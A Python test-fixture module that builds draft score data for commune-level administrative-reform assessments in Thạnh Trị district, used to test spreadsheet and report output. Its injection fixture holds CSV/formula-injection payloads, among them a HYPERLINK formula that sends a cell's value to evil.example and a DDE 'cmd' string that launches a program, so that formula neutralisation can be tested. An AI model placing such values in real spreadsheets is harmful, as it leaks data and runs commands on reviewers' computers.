"""A draft.json dict reproducing the seed report's 2018 table (huyện Thạnh Trị), for sheet/confirm/
report/summary tests. Each area score is spread over the area's sub-criteria in catalog order."""

from __future__ import annotations

import copy

from pipeline.core.config import Config

# Stt, unit, total, areas 1..8 — exactly the seed report's table
SEED_TABLE = [
    (1, "Xã Vĩnh Thành", 93, [20, 6, 13, 18, 8, 13, 7, 8]),
    (2, "TT Phú Lộc", 92, [21, 6, 13, 18, 8, 13, 5, 8]),
    (3, "Xã Thạnh Trị", 92, [21, 6, 13, 18, 8, 11, 7, 8]),
    (4, "Xã Thạnh Tân", 89, [20, 6, 13, 18, 8, 12, 5, 7]),
    (5, "Xã Tuân Tức", 89, [21, 6, 13, 14, 8, 13, 7, 7]),
    (6, "Xã Châu Hưng", 88, [21, 6, 10, 18, 8, 12, 5, 8]),
    (7, "Xã Lâm Tân", 88, [21, 6, 13, 15, 8, 12, 5, 8]),
    (8, "Xã Vĩnh Lợi", 85, [21, 2, 13, 18, 8, 13, 3, 7]),
    (9, "TT Hưng Lợi", 80, [21, 2, 13, 16, 8, 11, 4, 5]),
    (10, "Xã Lâm Kiệt", 71, [20, 2, 13, 12, 2, 11, 3, 8]),
]
SEED_RATE = ["86.7", "82.8", "80", "84.7", "91.7", "92.5", "93", "72.8", "92.5"]

INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"]


def spread(config: Config, area_scores: list[float]) -> dict[str, float]:
    """Sub-criterion scores adding up to each area score: fill criteria in order up to their max."""
    out: dict[str, float] = {}
    for area, score in zip(config.catalog.areas, area_scores, strict=True):
        left = float(score)
        for crit in area.criteria:
            take = min(crit.max, left)
            out[crit.code] = take
            left -= take
    return out


def seed_draft(config: Config, period: str = "2018", table=SEED_TABLE) -> dict:
    units = []
    # listed in folder order, not ranked: ranking is the code's job
    for _rank, name, total, areas in sorted(table, key=lambda t: t[1]):
        scores = spread(config, areas)
        folder = name.lower()
        docs = [
            {"id": "d1", "file": f"{folder}/tu cham diem.docx", "first_page": 1, "last_page": 4,
             "doc_type": "BC", "symbol": "12/BC-UBND", "date": f"{period}-11-20",
             "title": f"Báo cáo tự chấm điểm Chỉ số CCHC năm {period}", "ocr": False, "ocr_confidence": None,
             "criteria": [], "match": {}, "duplicate_of": None},
            {"id": "d2", "file": f"{folder}/ke hoach cchc.pdf", "first_page": 1, "last_page": 3,
             "doc_type": "KH", "symbol": "05/KH-UBND", "date": f"{period}-01-10",
             "title": "Kế hoạch cải cách hành chính năm " + period, "ocr": True, "ocr_confidence": 0.91,
             "criteria": ["1.1"], "match": {}, "duplicate_of": None},
            {"id": "d3", "file": f"{folder}/scan/ke hoach cchc (2).pdf", "first_page": 1, "last_page": 3,
             "doc_type": "KH", "symbol": "05/KH-UBND", "date": f"{period}-01-10",
             "title": "Kế hoạch cải cách hành chính năm " + period, "ocr": True, "ocr_confidence": 0.88,
             "criteria": ["1.1"], "match": {}, "duplicate_of": "d2"},
        ]
        criteria = []
        for area in config.catalog.areas:
            for crit in area.criteria:
                s = scores[crit.code]
                criteria.append({"code": crit.code, "name": crit.name, "area": area.code, "max": crit.max,
                                 "self_score": s, "draft_score": s,
                                 "documents": ["d2", "d3"] if crit.code == "1.1" else [], "flags": []})
        flags = [{"code": "duplicate_copies", "criterion": None, "document": "d3", "file": None,
                  "message": "d3 là bản sao của d2 (3 trang)."}]
        if name == "Xã Lâm Kiệt" and areas[0] == 20 and areas[5] == 11:
            # same area totals (20 and 11), but the points are lost where the plan/report is missing
            for c in criteria:
                c["self_score"] = c["draft_score"] = {"1.3": 3, "1.6": 2, "6.1": 1, "6.2": 3, "6.3": 3,
                                                      "6.4": 4}.get(c["code"], c["draft_score"])
            flags += [
                {"code": "missing_plan", "criterion": "6.1", "message": "Thiếu Kế hoạch ĐTBD CBCC.",
                 "document": None, "file": None},
                {"code": "missing_report", "criterion": "1.3", "message": "Thiếu Báo cáo CCHC quý I.",
                 "document": None, "file": None},
            ]
        units.append({
            "unit": name, "folder": folder, "self_assessment": f"{folder}/tu cham diem.docx",
            "self_total": total, "draft_total": total, "classification": None,
            "criteria": criteria, "documents": docs,
            "files": [{"path": d["file"], "sha256": "0" * 64, "status": "processed", "error": None,
                       "documents": [d["id"]]} for d in docs],
            "duplicate_groups": [{"documents": ["d2", "d3"], "keep": "d2", "redundant_pages": 3}],
            "flags": flags,
        })
    return {"period": period, "catalog": config.catalog.id, "units": units}


def with_injections(draft: dict) -> dict:
    """The same draft with document titles/symbols that try to become formulas."""
    d = copy.deepcopy(draft)
    docs = d["units"][0]["documents"]
    docs[1]["title"] = INJECTIONS[0]
    docs[1]["symbol"] = INJECTIONS[1]
    docs[2]["title"] = INJECTIONS[2]
    docs[2]["file"] = "=cmd|x/evil.pdf"
    d["units"][0]["criteria"][0]["flags"] = ["partial_evidence"]
    d["units"][0]["flags"].append({"code": "partial_evidence", "criterion": "1.1", "message": "-1+2 trang",
                                   "document": None, "file": None})
    d["units"].append({"unit": None, "folder": "=Thu muc la", "self_assessment": None, "self_total": None,
                       "draft_total": 0, "classification": None, "criteria": [], "documents": [],
                       "files": [{"path": "=Thu muc la/a.pdf", "sha256": "1" * 64, "status": "quarantined",
                                  "error": "Tệp rỗng.", "documents": []}],
                       "duplicate_groups": [], "flags": [{"code": "unknown_unit", "criterion": None,
                                                          "message": "Thư mục không khớp đơn vị nào."}]})
    return d


def criterion_row(ws, code: str) -> int:
    """The row of sub-criterion `code` in a unit sheet of the workbook."""
    from pipeline.output.sheet import COL_CODE, FIRST_ROW

    return next(r for r in range(FIRST_ROW, ws.max_row + 1) if ws.cell(row=r, column=COL_CODE).value == code)


def set_cell(path, unit: str, code: str, column: int, value) -> int:
    """Type `value` into `column` of sub-criterion `code`'s row of a unit sheet, as a reviewer would;
    returns the row."""
    from openpyxl import load_workbook

    wb = load_workbook(path)
    r = criterion_row(wb[unit], code)
    wb[unit].cell(row=r, column=column).value = value
    wb.save(path)
    return r
